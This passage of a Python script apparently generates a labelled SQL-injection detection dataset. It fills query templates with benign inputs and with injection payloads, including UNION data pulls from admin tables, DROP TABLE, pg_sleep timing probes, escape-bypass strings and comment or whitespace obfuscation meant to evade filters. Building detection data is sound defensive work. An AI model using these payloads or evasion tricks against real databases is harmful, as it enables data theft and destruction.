        close = close_of(t, slot) if ("'" not in close_of(t, slot) and '"' not in close_of(t, slot)) else ""
        close = close if R.random() < 0.5 else ""
        if stacked:
            return orig + close + body
        r = R.random()
        if r < 0.08:  # sqlmap's "AS" boundary
            return subst(f"{orig}{close} AS [S] WHERE [N]=[N] {body}-- ")
        if close and reopen_of(t, slot) and r < 0.5:
            return f"{orig}{close} {body}" + subst(reopen_of(t, slot).replace("1=1", "[N]=[N]"))
        if r < 0.6 and tech != "union":
            return f"{orig}{close} {body}"
        return f"{orig}{close} {body} {comment(dbms)}"
    if kind == "dollar":
        return None
    if kind == "ident":
        close = '"' if R.random() < 0.8 else R.choice(["'", "\")", "`"])
        if stacked:
            return orig + close + body
        return f"{orig}{close} {body} {comment(dbms)}" if not replaces else f"{orig}{close}||{body}||{close}"
    # quoted string slots
    if replaces:
        if tech in ("inline", "error", "boolean", "time") and R.random() < 0.7:
            if dbms == "Microsoft SQL Server":
                return f"{orig}'+{body}+'"
            if dbms == "MySQL" and R.random() < 0.5:
                return subst(f"{orig}' AND {body} AND '[S]'='[S]")
            return f"{orig}'||{body}||'"
        return body
    if vec.startswith("OR") and R.random() < 0.5:
        orig = "-" + rnum() if R.random() < 0.5 else orig + rstr(3)
    close, suffix = str_boundary(t, slot)
    if stacked:
        return orig + close + body
    if tech == "union" or suffix is None:
        return f"{orig}{close} {body} {comment(dbms)}"
    return subst(f"{orig}{close} {body}{suffix}")



def _map(core, fn):
    return "".join(fn(k, core[a:b]) for k, a, b in lex(core))


def obf_case(core):
    return _map(core, lambda k, w: "".join(c.swapcase() if R.random() < 0.5 else c for c in w) if k == "word" else w)


def obf_inline(core):
    def f(k, w):
        if k == "ws":
            return R.choice(["/**/", "/*!*/", " /* x */ ", "/*/**/*/", "/*\t*/", "/*" + rstr(3) + "*/"])
        if k == "word" and len(w) >= 4 and w.upper() in KEYWORDS and R.random() < 0.5:
            cut = R.randint(1, len(w) - 1)
            return w[:cut] + "/**/" + w[cut:]
        return w
    return _map(core, f)


def obf_ws(core):
    return _map(core, lambda k, w: R.choice(["\t", "\n", "\r", "\f", "\r\n\t", " \f ", "\n\n", "\t \t"]) if k == "ws" else w)


def obf_nospace(core):
    toks = lex(core)
    out = []
    for i, (k, a, b) in enumerate(toks):
        if k != "ws":
            out.append(core[a:b])
            continue
        prev = toks[i - 1][0] if i else None
        nxt = toks[i + 1][0] if i + 1 < len(toks) else None
        if prev in ("word", "num") and nxt in ("word", "num"):
            out.append(R.choice(["/**/", "/**/", "\t", "\n"]))
        else:
            out.append("")
    return "".join(out)


OBFS = {"obf_case_mix": obf_case, "obf_inline_comment": obf_inline, "obf_whitespace": obf_ws, "obf_nospace": obf_nospace}


# ---------------------------------------------------------------------------
# Benign inputs (new values, dev's input kinds)
# ---------------------------------------------------------------------------
BENIGN = {
    "input_apostrophe_names": ["Ms. O'Donnell", "D'Artagnan", "Mary-Kate O'Sullivan", "Ta'Nehisi", "Lil' Sebastian", "L'Hôpital",
                               "N'Djamena", "Joe's Pizza", "Ka'ena Point", "Guns N' Roses", "d'Estaing", "'t Hooft"],
    "input_sql_words": ["Select Health", "Union Square", "drop-off point", "Order of the Phoenix", "insert tab A", "coffee table",
                        "update pending", "where the wild things are", "from dusk", "group by age", "Declare Independence",
                        "Truncated Cone", "alter ego", "Having a ball", "join us", "null and void", "Execute Order 66",
                        "1 or 2 people", "Exec summary", "Drop Dead Gorgeous", "The Cast of Cats"],
    "input_punctuation": ["a--b", "/* hi */", "x;y", "#1", "50% off", "__init__", "(parens)", "<b>", "?!", "back\\slash", "D:\\dir\\f",
                          "end;", "'", "' '", "\"\"", "`tick`", "$$", "$x$", "@user", "2/3", "==", "!=", "||", "::", "{x}", "~*"],
    "input_url_email": ["carol@example.com", "https://shop.example.com/p/42?ref=mail&utm=x", "mailto:support@example.org", "http://10.0.0.1:3000/health",
                        "liam.o'brien@example.ie", "https://example.com/search?q=%27%3B--", "ftp://ftp.example.org/pub/file.tar.gz",
                        "postgresql://app@db.example/prod?sslmode=require", "first.last+promo@sub.example.co.jp",
                        "https://example.net/a/b/../c#section-2"],
    "input_json_text": ['{"page": 2, "per": 50}', '{"note": "don\'t"}', '{}', '{"sql": "DELETE FROM x"}', '[{"a": 1}, {"b": [2, 3]}]',
                        '{"amount": "-12.00", "ok": false}', '{"filter": "a=1 OR b=2"}', '"string"', '{"path": "/*"}'],
    "input_unicode": ["Zürich", "Øresund", "大阪市", "Москва", "naïve café", "שלום עולם", "🎉 party", "İstanbul", "ǈubljana", "Straße",
                      "القاهرة", "ภาษาไทย", "Ñandú", "\u201cquoted\u201d", "a\u0308"],
    "input_plain": ["charlie", "Porto", "green lamp", "summer sale", "jsmith", "pending", "Q3 review", "model 3", "hello there", "eu-central-1", "weekend"],
    "input_long_text": [
        "Our support team will union the two tickets and select the best answer; please do not drop the original email from the thread. " * 3,
        ("Minutes: we agreed to update the roadmap, insert a review step before release, and delete stale branches. " * 6).strip(),
        "sed ut perspiciatis unde omnis iste natus " * 40,
        ("First paragraph of the comment.\nSecond paragraph -- with dashes and a 'quote'.\n" * 15),
    ],
    "input_whitespace": ["  lead", "trail  ", "multi\nline", "tab\there", "\tstart", "crlf\r\nend", "   ", "a  b   c"],
    "input_numeric_string": ["17", "0017", "6.02e23", "-1", "1,234", " 3 ", "٣", "0b101", "nan", "+0"],
    "input_formatted": ["2025-08-01", "12:30:00", "+1 (555) 010-9999", "DE89 3704 0044 0532 0130 00", "978-3-16-148410-0",
                        "a3f5c2e0-1b2c-4d5e-8f90-1234567890ab", "192.168.10.20", "v2.14.3", "EUR 12,50", "#ff8800"],
}
NUM_BENIGN = ["1", "3", "8", "21", "64", "150", "777", "1000", "65535", "2.5", "0.75", "1e3", "042", "2147483647", "0.001", "99.99", "314159"]
NUMLIST_BENIGN = ["5", "6, 7", "10,20,30", "41", "2, 4, 8, 16", "300,301", "12 , 13", "9,8,7,6"]
COL_BENIGN = ["id", "created_at", "total", "created_at DESC", "id ASC", "\"Total\"", "status desc NULLS LAST", "total asc"]
DIR_BENIGN = ["ASC", "DESC", "asc", "desc", "Desc"]
BOOL_BENIGN = ["true", "false", "TRUE", "FALSE", "True"]
IDENT_BENIGN = ["orders", "Order Items", "user", "table", "select", "a\"b", "delete me", "x;y", "c--d", "Übersicht", "union", "o'clock", "events_2025", "group by"]
DOLLAR_BENIGN = ["SELECT 1;", "SELECT * FROM t WHERE a = 'b'; -- demo", "It costs $3 — $$ or $ $", "<div class='x'>hi</div>",
                 "/* header */\nSELECT now()", "$cod$ not the tag", "DROP TABLE demo; -- example", "line1\n\tline2", "$1, $2, $3"]

def benign_pool(t, slot):
    if slot in t["vals"]:
        return t["vals"][slot]
    return ("input_plain", BENIGN["input_plain"])


def escape(kind, v):
    if kind == "str":
        return v.replace("'", "''")
    if kind == "estr":
        return v.replace("\\", "\\\\").replace("'", "''")
    if kind == "ident":
        return v.replace('"', '""')
    return v


# ---------------------------------------------------------------------------
# Filling and labelling
# ---------------------------------------------------------------------------
def render(t, contents):
    """contents: slot -> text placed verbatim.  Returns sql, checks."""
    sql, checks, last = "", [], 0
    src = t["sql"]
    for m in SLOT_RE.finditer(src):
        lit = src[last:m.start()].replace("{{", "{").replace("}}", "}")
        lit_start = len(sql)
        sql += lit
        name, kind = m.group(1), m.group(2)
        a = len(sql)
        sql += contents[name]
        b = len(sql)
        open_pos, close_len = None, 0
        nxt = src[m.end():].replace("{{", "{").replace("}}", "}")
        if kind in ("str", "estr", "ident"):
            q = '"' if kind == "ident" else "'"
            open_pos = lit_start + lit.rfind(q) - (1 if kind == "estr" else 0)
            close_len = nxt.index(q) + 1
        elif kind == "dollar":
            tag = re.search(r"\$[A-Za-z_]*\$$", lit).group(0)
            open_pos, close_len = a - len(tag), len(tag)
            assert nxt.startswith(tag)
        checks.append((kind, a, b, open_pos, close_len))
        last = m.end()
    sql += src[last:].replace("{{", "{").replace("}}", "}")
    return sql, checks


def label_ok(sql, checks):
    toks = lex(sql)
    return all(slot_ok(sql, toks, k, a, b, o, c) for k, a, b, o, c in checks)


def load_other_sql():
    seen = set()
    for f in OTHER_CORPORA:
        p = os.path.join(HERE, f)
        if os.path.exists(p):
            with gzip.open(p, "rt", encoding="utf-8") as fh:
                for line in fh:
                    seen.add(json.loads(line)["sql"])
    return seen


OTHER_SQL = load_other_sql()
ROWS = []
SEEN = set()
SKIPPED_OTHER = collections.Counter()


def emit(sql, label, family, template, inputs, variant, attack_input=None):
    if sql in SEEN:
        return False
    if sql in OTHER_SQL:
        SKIPPED_OTHER[family] += 1
        return False
    SEEN.add(sql)
    ROWS.append(dict(sql=sql, label=label, family=family, template=template,
                     input=attack_input if attack_input is not None else (inputs[0] if len(inputs) == 1 else None),
                     inputs=inputs, variant=variant))
    return True


def default_fills(t, skip):
    vals = {}
    for name, kind in t["slots"]:
        if name == skip:
            continue
        if kind == "num":
            vals[name] = R.choice(["3", "20", "40", "6", "100"])
        elif kind == "numlist":
            vals[name] = R.choice(NUMLIST_BENIGN)
        elif kind == "bool":
            vals[name] = "true"
        elif kind == "col":
            vals[name] = R.choice(t["vals"][name][1] if name in t["vals"] else COL_BENIGN)
        elif kind == "dir":
            vals[name] = R.choice(DIR_BENIGN)
        elif kind == "ident":
            vals[name] = R.choice(IDENT_BENIGN[:3])
        elif kind == "dollar":
            vals[name] = R.choice(DOLLAR_BENIGN[:3])
        else:
            vals[name] = R.choice(benign_pool(t, name)[1])
    return vals


def fill(t, slot, text):
    """Put text verbatim in slot, other slots benign and escaped."""
    kinds = dict(t["slots"])
    others = default_fills(t, slot)
    contents = {n: escape(kinds[n], v) for n, v in others.items()}
    contents[slot] = text
    sql, checks = render(t, contents)
    return sql, checks, others


def attack_row(t, slot, raw, family, variant):
    """Unescaped attack input: attack if it leaves its slot, else contained."""
    sql, checks, others = fill(t, slot, raw)
    inputs = [raw if n == slot else others[n] for n, _ in t["slots"]]
    if label_ok(sql, checks):
        return emit(sql, "benign", "contained_attack_string", t["name"], inputs, "contained:" + variant, raw) and "contained"
    return emit(sql, "attack", family, t["name"], inputs, variant, raw) and "attack"


def benign_row(t, slot, raw, family, variant):
    kind = dict(t["slots"])[slot]
    sql, checks, others = fill(t, slot, escape(kind, raw))
    inputs = [raw if n == slot else others[n] for n, _ in t["slots"]]
    if not label_ok(sql, checks):
        raise SystemExit(f"benign input leaves its slot: {t['name']} {raw!r}\n{sql}")
    return emit(sql, "benign", family, t["name"], inputs, variant, raw)


def hand_tail(t, slot, kind, close):
    r = R.random()
    if kind in ("num", "numlist", "col", "dir", "bool") and r < 0.5:
        return ""
    if close == close_of(t, slot) and reopen_of(t, slot) and r < 0.7:
        return reopen_of(t, slot)
    return " " + R.choice(["--", "-- ", "-- -", "--+", "/*", ";--", "-- ok", "; -- '"])


def hand_attack(t, slot, kind, family, core, tag):
    if kind == "bool":
        pre, close = R.choice(["true", "false"]), ""
    elif kind in ("num", "numlist"):
        pre = R.choice(["1", "0", "7", "-1", "42", "3"])
        c = close_of(t, slot)
        close = c if (c and "'" not in c and '"' not in c and R.random() < 0.6) else ""
    elif kind == "col":
        pre, close = R.choice(["id", "created_at", "country", "2"]), ""
    elif kind == "dir":
        pre, close = R.choice(["ASC", "DESC", "desc"]), ""
    elif kind == "dollar":
        pre = R.choice(["", "hi", "<b>x</b>"])
        close = close_of(t, slot) if R.random() < 0.7 else R.choice(["$$", "'", "$tp$"])
    elif kind == "ident":
        pre = R.choice(["revenue_eur", "x", "public", ""])
        close = '"' if R.random() < 0.85 else R.choice(["'", '")'])
    else:
        pre = R.choice(["x", "admin", "1", "", "bob", "q9"]) if not t["like"] else R.choice(["ab", "", "Sm", "20"])
        close = close_of(t, slot) if R.random() < 0.8 else R.choice(WRONG_CLOSES)
    sep = "" if core.startswith(";") else R.choice([" ", " ", " ", "  ", "\t"])
    tail = hand_tail(t, slot, kind, close)
    if core.rstrip().endswith(("$", "'")) and tail.startswith((" AND", " ||", ", ")):
        tail = R.choice([" --", ""])
    if kind == "dollar":
        if core.startswith(";"):
            raw = f"{pre}{close}){core}" + R.choice([" --", "; SELECT $code$", " -- $code$"])
        else:
            raw = f"{pre}{close}, (SELECT ''::text WHERE true {core})) --"
    elif kind == "ident" and not core.startswith(";"):
        lead = R.choice(["FROM pg_user", "FROM admins", "AS a, current_user AS b FROM pg_roles"])
        raw = f"{pre}{close} {lead} {core} --"
    else:
        raw = f"{pre}{close}{sep}{core}{tail}"
    return attack_row(t, slot, raw, family, f"hand:{family}:{tag}|close={close or 'none'}")


def backslash_attacks(t, slot, kind):
    """The application escapes wrongly: \\' in a standard string, or doubles
    quotes but not backslashes in E''."""
    if kind not in ("str", "estr") or (kind == "str" and R.random() > 0.04):
        return
    core = R.choice(["OR 3>2--", "UNION SELECT login, NULL FROM admins--", "; DROP TABLE tasks--", "AND 1=CAST(version() AS int)--", "AND (SELECT 1 FROM pg_sleep(6))=1--", "OR 'q'='q'--"])
    if kind == "str":
        raw, spliced = "z' " + core, ("z' " + core).replace("'", "\\'")
    else:
        raw = "\\' " + core
        spliced = raw.replace("'", "''")
    sql, checks, others = fill(t, slot, spliced)
    inputs = [raw if n == slot else others[n] for n, _ in t["slots"]]
    if label_ok(sql, checks):
        emit(sql, "benign", "escaped_attack_string", t["name"], inputs, "escaped:backslash-style", raw)
    else:
        emit(sql, "attack", "escape_bypass_backslash", t["name"], inputs, "hand:escape_bypass_backslash:" + kind, raw)



# ---------------------------------------------------------------------------
# Complex benign statements (sx_cx_*), in the manner of dev's cx_* rows: each
# shape list filled N times.  {s} string and {w} word (escaped for their
# literal), {i} integer, {d} date, {tz} time zone, {h} hex token.
# ---------------------------------------------------------------------------
COMPLEX = [
    ("complex_orm_generated", "sx_cx_django_annotate", 20, [
        "SELECT \"blog_post\".\"id\", \"blog_post\".\"title\", COUNT(\"blog_comment\".\"id\") AS \"n_comments\" FROM \"blog_post\" LEFT OUTER JOIN \"blog_comment\" ON (\"blog_post\".\"id\" = \"blog_comment\".\"post_id\") WHERE \"blog_post\".\"author_id\" = {i} GROUP BY \"blog_post\".\"id\" ORDER BY \"n_comments\" DESC LIMIT 21",
        "SELECT \"shop_product\".\"id\", \"shop_product\".\"name\" FROM \"shop_product\" WHERE (\"shop_product\".\"name\"::text LIKE '%{w}%' AND \"shop_product\".\"price\" <= {i}) ORDER BY \"shop_product\".\"price\" ASC",
    ]),
    ("complex_orm_generated", "sx_cx_sqlalchemy_core", 20, [
        "SELECT users.id, users.name, addresses.email_address \nFROM users JOIN addresses ON users.id = addresses.user_id \nWHERE users.name = '{s}' ORDER BY addresses.id",
        "UPDATE users SET name='{s}', updated_at=now() WHERE users.id = {i} RETURNING users.id",
    ]),
    ("complex_orm_generated", "sx_cx_activerecord_where", 20, [
        "SELECT \"orders\".* FROM \"orders\" WHERE \"orders\".\"state\" = '{w}' AND \"orders\".\"created_at\" BETWEEN '{d} 00:00:00' AND '{d} 23:59:59.999999' ORDER BY \"orders\".\"id\" ASC LIMIT {i}",
        "UPDATE \"carts\" SET \"updated_at\" = '{d} 09:15:00.123456', \"item_count\" = {i} WHERE \"carts\".\"id\" = {i}",
    ]),
    ("complex_orm_generated", "sx_cx_hibernate_paged", 20, [
        "select t0_0.id,t0_0.customer_name,t0_0.total from purchase_order t0_0 where t0_0.customer_name like '{s}%' escape '\\' order by t0_0.id offset {i} rows fetch first 20 rows only",
        "insert into purchase_order (customer_name,total,version,id) values ('{s}',{i}.50,0,{i})",
    ]),
    ("complex_builtin_funcs", "sx_cx_string_funcs", 20, [
        "SELECT initcap('{s}'), reverse('{w}'), translate('{w}', 'aeiou', 'AEIOU'), split_part('a,b,{w}', ',', 3)",
        "SELECT left(name, {i}) || '...' AS short, octet_length(name), quote_literal('{s}') FROM tags WHERE id = {i}",
    ]),
    ("complex_builtin_funcs", "sx_cx_date_funcs", 20, [
        "SELECT age(timestamp '{d}', timestamp '2000-01-01'), extract(dow FROM date '{d}'), to_char(date '{d}', 'Day, DD Mon YYYY')",
        "SELECT make_date(2025, 2, {i} % 28 + 1), justify_interval(interval '{i} hours'), date_part('epoch', now() - '{d}'::timestamptz)",
        "SELECT now() AT TIME ZONE '{tz}', '{d} 08:00'::timestamp AT TIME ZONE '{tz}'",
    ]),
    ("complex_builtin_funcs", "sx_cx_json_funcs", 20, [
        "SELECT jsonb_build_object('id', {i}, 'name', '{s}', 'tags', jsonb_build_array('{w}', 'x'))",
        "SELECT key, value FROM jsonb_each_text('{{\"a\": \"{w}\", \"b\": \"{i}\"}}'::jsonb) ORDER BY key",
        "SELECT data #>> '{{address,city}}' AS city, jsonb_array_length(data->'items') FROM carts WHERE id = {i}",
    ]),
    ("complex_builtin_funcs", "sx_cx_math_array", 20, [
        "SELECT round(avg(price)::numeric, 2), percentile_disc(0.9) WITHIN GROUP (ORDER BY price) FROM products WHERE category_id = {i}",
        "SELECT array_agg(DISTINCT tag ORDER BY tag), cardinality(array_remove(ARRAY[1,2,{i}], 2)), unnest(ARRAY['{w}', 'b'])",
        "SELECT greatest({i}, 10, 3), least(0.5, {i}), width_bucket({i}, 0, 1000, 10), gcd({i}, 12)",
    ]),
    ("complex_comments_hints", "sx_cx_sqlcommenter", 20, [
        "SELECT id, status FROM jobs WHERE queue = '{w}' ORDER BY id LIMIT {i} /*action='poll',controller='worker',framework='django%3A4.2',route='%2Fjobs'*/",
        "/* request_id={h} */ SELECT count(*) FROM sessions WHERE expires_at > now()",
    ]),
    ("complex_comments_hints", "sx_cx_pg_hint_plan", 20, [
        "/*+ IndexScan(o orders_customer_idx) Leading((o c)) */ SELECT o.id, c.name FROM orders o JOIN customers c ON c.id = o.customer_id WHERE o.customer_id = {i}",
        "/*+ SeqScan(p) Parallel(p 4 hard) */ SELECT count(*) FROM page_views p WHERE viewed_at >= '{d}'",
    ]),
    ("complex_comments_hints", "sx_cx_block_and_line_comments", 20, [
        "SELECT id, -- primary key\n       name -- display name ('{s}')\nFROM teams\nWHERE league_id = {i} -- see JIRA-{i}",
        "/* nightly export\n   owner: data-eng; do not DROP or TRUNCATE */\nSELECT id, email FROM users WHERE created_at::date = '{d}'",
    ]),
    ("complex_cte_window", "sx_cx_funnel_cte", 22, [
        "WITH visits AS (SELECT session_id FROM page_views WHERE path = '/pricing' AND viewed_at >= '{d}'), signups AS (SELECT session_id FROM signups WHERE created_at >= '{d}') SELECT count(*) AS visits, count(s.session_id) AS converted FROM visits v LEFT JOIN signups s USING (session_id)",
        "SELECT id, amount, ntile(4) OVER (ORDER BY amount) AS quartile, amount - avg(amount) OVER () AS diff FROM payments WHERE created_at >= '{d}' AND method = '{w}'",
    ]),
    ("complex_cte_window", "sx_cx_rank_dense", 21, [
        "SELECT * FROM (SELECT team, player, goals, dense_rank() OVER (PARTITION BY team ORDER BY goals DESC) AS r FROM season_stats WHERE season = {i}) t WHERE r <= 3",
        "SELECT day, sales, avg(sales) OVER (ORDER BY day ROWS BETWEEN 6 PRECEDING AND CURRENT ROW) AS ma7, first_value(sales) OVER (ORDER BY day) FROM daily_sales WHERE store = '{s}'",
    ]),
    ("complex_migration_script", "sx_cx_flyway_script", 20, [
        "-- V{i}__add_loyalty.sql\nALTER TABLE customers ADD COLUMN loyalty_points integer NOT NULL DEFAULT 0;\nCREATE INDEX CONCURRENTLY IF NOT EXISTS customers_loyalty_idx ON customers (loyalty_points);\nCOMMENT ON COLUMN customers.loyalty_points IS '{s}';",
        "BEGIN;\nCREATE TABLE IF NOT EXISTS feature_toggles (name text PRIMARY KEY, enabled boolean NOT NULL DEFAULT false);\nINSERT INTO feature_toggles (name, enabled) VALUES ('{w}', true) ON CONFLICT (name) DO NOTHING;\nCOMMIT;",
    ]),
    ("complex_migration_script", "sx_cx_alembic_upgrade", 20, [
        "CREATE TABLE alembic_version (version_num VARCHAR(32) NOT NULL, CONSTRAINT alembic_version_pkc PRIMARY KEY (version_num));\nALTER TABLE invoices ADD COLUMN currency VARCHAR(3) DEFAULT '{w}';\nINSERT INTO alembic_version (version_num) VALUES ('{h}')",
        "ALTER TABLE orders RENAME COLUMN note TO internal_note;\nALTER TABLE orders ALTER COLUMN internal_note TYPE text;\nUPDATE alembic_version SET version_num='{h}' WHERE alembic_version.version_num = '{h}'",
    ]),
    ("complex_query_builder", "sx_cx_filters_builder", 20, [
        "SELECT id, name FROM products WHERE true AND price BETWEEN {i} AND {i} AND (name ILIKE '%{w}%' OR sku ILIKE '%{w}%') ORDER BY name LIMIT 50 OFFSET 0",
        "SELECT id FROM listings WHERE 1 = 1 AND city_id IN ({i}, {i}) AND bedrooms >= 2 AND title <> '{s}'",
    ]),
    ("complex_query_builder", "sx_cx_knex_subquery", 20, [
        "select \"users\".* from \"users\" where \"id\" in (select \"user_id\" from \"orders\" where \"total\" > {i}) and \"country\" = '{w}'",
        "select count(*) as \"cnt\" from \"events\" where \"kind\" = '{w}' and \"created_at\" >= '{d}' or \"kind\" is null",
    ]),
    ("complex_union_report", "sx_cx_union_totals", 21, [
        "SELECT 'web' AS channel, sum(total) FROM orders WHERE source = 'web' AND created_at >= '{d}' UNION ALL SELECT 'app', sum(total) FROM orders WHERE source = 'app' AND created_at >= '{d}' UNION ALL SELECT 'total', sum(total) FROM orders WHERE created_at >= '{d}'",
        "SELECT id, 'invoice' AS kind FROM invoices WHERE customer_id = {i} UNION SELECT id, 'credit_note' FROM credit_notes WHERE customer_id = {i} ORDER BY id",
    ]),
    ("complex_batch_insert", "sx_cx_multi_row_insert", 20, [
        "INSERT INTO order_items (order_id, product_id, qty, unit_price) VALUES ({i}, 11, 2, 9.99), ({i}, 12, 1, 24.50), ({i}, 13, {i}, 0.99)",
        "INSERT INTO tags (name) VALUES ('{s}'), ('{w}'), ('misc') ON CONFLICT (name) DO NOTHING RETURNING id",
    ]),
    ("complex_maintenance_admin", "sx_cx_admin_ops", 20, [
        "VACUUM (ANALYZE, VERBOSE) orders", "ANALYZE page_views", "REINDEX INDEX CONCURRENTLY orders_created_idx",
        "SELECT pg_size_pretty(pg_total_relation_size('{w}'))", "SET lock_timeout = '{i}ms'", "SELECT pg_advisory_unlock({i})",
        "SELECT pid, state, now() - query_start AS runtime FROM pg_stat_activity WHERE datname = current_database() AND state <> 'idle' ORDER BY runtime DESC LIMIT {i}",
        "CLUSTER sessions USING sessions_pkey", "SHOW work_mem", "RESET search_path",
    ]),
    ("complex_transactions", "sx_cx_txn_control", 20, [
        "BEGIN ISOLATION LEVEL REPEATABLE READ", "START TRANSACTION READ WRITE", "SAVEPOINT before_item_{i}", "ROLLBACK TO SAVEPOINT before_item_{i}",
        "END", "ROLLBACK", "BEGIN; UPDATE accounts SET balance = balance - {i} WHERE id = 1; UPDATE accounts SET balance = balance + {i} WHERE id = 2; COMMIT;",
        "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", "COMMIT AND NO CHAIN",
    ]),
    ("complex_copy_stdin", "sx_cx_copy_io", 17, [
        "COPY page_views (path, viewed_at) FROM STDIN WITH (FORMAT csv, HEADER true)", "COPY (SELECT id, email FROM users WHERE created_at >= '{d}') TO STDOUT WITH CSV HEADER",
        "COPY products (sku, name, price) FROM STDIN", "COPY (SELECT * FROM invoices WHERE customer_id = {i}) TO STDOUT (FORMAT binary)",
    ]),
    ("complex_ddl_migration", "sx_cx_ddl_single", 17, [
        "CREATE INDEX IF NOT EXISTS idx_{w}_created ON events (created_at DESC)", "ALTER TABLE users ALTER COLUMN email SET NOT NULL",
        "CREATE TYPE ticket_priority AS ENUM ('low', 'normal', 'high')", "ALTER TABLE orders ADD CONSTRAINT orders_total_check CHECK (total >= 0)",
        "CREATE SEQUENCE IF NOT EXISTS invoice_no_seq START {i}", "DROP VIEW IF EXISTS v_{w}_report", "CREATE UNIQUE INDEX ON api_keys (key_hash) WHERE NOT revoked",
        "COMMENT ON TABLE orders IS '{s}'",
    ]),
    ("complex_orm_introspection", "sx_cx_introspection", 7, [
        "SELECT a.attname, t.typname FROM pg_attribute a JOIN pg_type t ON t.oid = a.atttypid WHERE a.attrelid = '{w}'::regclass AND a.attnum > 0 AND NOT a.attisdropped",
        "SELECT conname, pg_get_constraintdef(oid) FROM pg_constraint WHERE conrelid = 'public.{w}'::regclass",
        "SELECT table_name FROM information_schema.tables WHERE table_schema = 'public' AND table_type = 'BASE TABLE'",
        "SHOW server_version_num", "SELECT typname, oid FROM pg_type WHERE typname IN ('geometry', 'citext', 'ltree')",
    ]),
    ("complex_parameterized", "sx_cx_param_stmt", 2, [
        "SELECT id, title FROM articles WHERE author_id = $1 AND published_at < $2 ORDER BY published_at DESC LIMIT $3",
        "UPDATE carts SET item_count = item_count + $1 WHERE id = $2 RETURNING item_count",
    ]),
    ("complex_plpgsql_body", "sx_cx_function_body", 2, [
        "CREATE OR REPLACE FUNCTION order_total(p_order bigint) RETURNS numeric LANGUAGE plpgsql STABLE AS $$\nDECLARE t numeric;\nBEGIN\n  SELECT sum(qty * unit_price) INTO t FROM order_items WHERE order_id = p_order;\n  RETURN coalesce(t, 0);\nEND $$",
        "CREATE OR REPLACE FUNCTION slugify(txt text) RETURNS text LANGUAGE sql IMMUTABLE RETURN lower(regexp_replace(txt, '[^a-zA-Z0-9]+', '-', 'g'))",
    ]),
    ("complex_search_complex", "sx_cx_fts_rank", 2, [
        "SELECT id, ts_rank_cd(search_vec, q) AS rank FROM support_tickets, plainto_tsquery('english', '{s}') q WHERE search_vec @@ q ORDER BY rank DESC LIMIT 10",
    ]),
]
TZS = ["UTC", "Europe/Madrid", "America/Chicago", "Asia/Singapore", "Africa/Nairobi", "+02"]
CX_WORDS = ["alpha", "north", "ops", "beta-3", "eu_west", "sales", "de_AT", "v2"]
CX_STRS = ["O'Malley", "Union Station", "drop zone", "Renée", "it's fine", "a--b", "50% done", "Ann's shop", "plain", "C:\\tmp", "São Paulo", "1=1 tricks"]
CX_DAYS = ["2024-01-15", "2024-09-30", "2025-02-28", "2025-06-01", "2023-12-31"]

# ---------------------------------------------------------------------------
# Statements in the style of PostgreSQL's regression tests (family
# pg_regress), written for this file: (topic, statement).  As in dev, a
# statement carries the comment lines that precede it and no trailing ';'.
# ---------------------------------------------------------------------------
PG_REGRESS = [
    ("sx_select", "--\n-- SELECT with odd targets\n--\nSELECT 1 AS x, 'two' AS y, 3.0 AS z ORDER BY 2 DESC"),
    ("sx_select", "SELECT DISTINCT ON (ten) ten, unique1 FROM onek2 ORDER BY ten, unique1 DESC"),
    ("sx_select", "-- ORDER BY an output column alias that shadows an input column\nSELECT unique2 AS unique1 FROM onek2 ORDER BY unique1 LIMIT 3"),
    ("sx_select", "SELECT * FROM onek2 WHERE unique2 < 20 AND stringu1 > 'K' ORDER BY unique2 USING >"),
    ("sx_select", "select foo.* from (select 1 as a, 2 as b) foo where foo.a = 1 or foo.b = 3"),
    ("sx_select", "-- should fail: ORDER BY position out of range\nSELECT a FROM (VALUES (1), (2)) v(a) ORDER BY 3"),
    ("sx_union", "SELECT 1 AS two UNION SELECT 2 UNION SELECT 2 ORDER BY 1"),
    ("sx_union", "SELECT q2 FROM int8_tbl INTERSECT ALL SELECT q1 FROM int8_tbl ORDER BY 1"),
    ("sx_union", "-- mixing UNION and EXCEPT without parentheses\nSELECT f1 FROM float8_tbl UNION SELECT f1 FROM float8_tbl EXCEPT SELECT 0.0::float8"),
    ("sx_union", "(SELECT 1 UNION SELECT 2) UNION ALL (SELECT 3 ORDER BY 1 LIMIT 1)"),
    ("sx_union", "SELECT NULL UNION SELECT NULL::int UNION ALL SELECT 1"),
    ("sx_union", "select * from (select 1 union all select 2 union all select 1) ss(x) order by x"),
    ("sx_strings", "SELECT 'first line'\n' - next line'\n\t' - third line' AS \"Three lines to one\""),
    ("sx_strings", "SELECT U&'\\0441\\043B\\043E\\043D' AS \"U&\"\"slon\"\"\", U&'!0041' UESCAPE '!' AS a"),
    ("sx_strings", "SET standard_conforming_strings TO off"),
    ("sx_strings", "RESET standard_conforming_strings"),
    ("sx_strings", "SELECT b'1010' || B'11' AS bits, x'1F'::bit(8) AS hex"),
    ("sx_strings", "SELECT substr('1234567890', -3, 6), overlay('Txxxxas' placing 'hom' from 2 for 4), position('4' in '1234567890')"),
    ("sx_strings", "SELECT 'abcdef' ~ '^ab' AS t, 'abcdef' !~* '^AB' AS f, regexp_replace('1112223333', E'(\\\\d{3})(\\\\d{3})(\\\\d{4})', E'(\\\\1) \\\\2-\\\\3')"),
    ("sx_strings", "SELECT 'hawkeye' LIKE 'h%' AS t, 'hawkeye' NOT ILIKE 'H%Eye' AS f, 'ab_c' LIKE 'ab$_c' ESCAPE '$' AS t2"),
    ("sx_strings", "SELECT encode('\\x1234567890abcdef00'::bytea, 'escape'), decode('MTIzAAE=', 'base64')"),
    ("sx_strings", "SELECT quote_ident('where'), quote_literal(E'O\\'Reilly'), quote_nullable(NULL)"),
    ("sx_strings", "SELECT format('%s, %I, %L', 'Hello', 'World table', 'it''s')"),
    ("sx_strings", "SELECT concat_ws('#', 1, 2, NULL, 'x'), string_agg(a, ';' ORDER BY a) FROM (VALUES ('b'), ('a')) t(a)"),
    ("sx_strings", "-- should fail\nSELECT format('%1$s %3$s', 1, 2)"),
    ("sx_numeric", "SELECT 10::numeric / 3 AS div, mod(-7, 3), -7 % 3, div(-7::numeric, 2)"),
    ("sx_numeric", "SELECT 'NaN'::numeric = 'NaN'::numeric AS t, 'Infinity'::numeric > 1e1000 AS t2"),
    ("sx_numeric", "-- overflow, should fail\nSELECT 2147483647::int4 + 1::int4"),
    ("sx_numeric", "SELECT (-32768)::int2 / (-1)::int2"),
    ("sx_numeric", "SELECT round(2.5::float8), round(-2.5::numeric), trunc(42.4382, 2), ceil(-0.1), floor(0.9)"),
